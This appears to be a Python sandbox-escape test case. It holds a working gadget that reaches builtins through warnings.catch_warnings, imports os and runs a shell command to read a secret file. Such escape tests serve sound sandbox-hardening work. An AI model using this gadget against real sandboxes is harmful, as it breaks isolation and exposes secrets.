# A well known gadget: warnings.catch_warnings keeps its module, the module its builtins.
# effect: run
kind = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"]
if not kind:
    import warnings
    kind = [warnings.catch_warnings]
kind[0]()._module.__builtins__["__import__"]("os").system("cat @SECRET@")
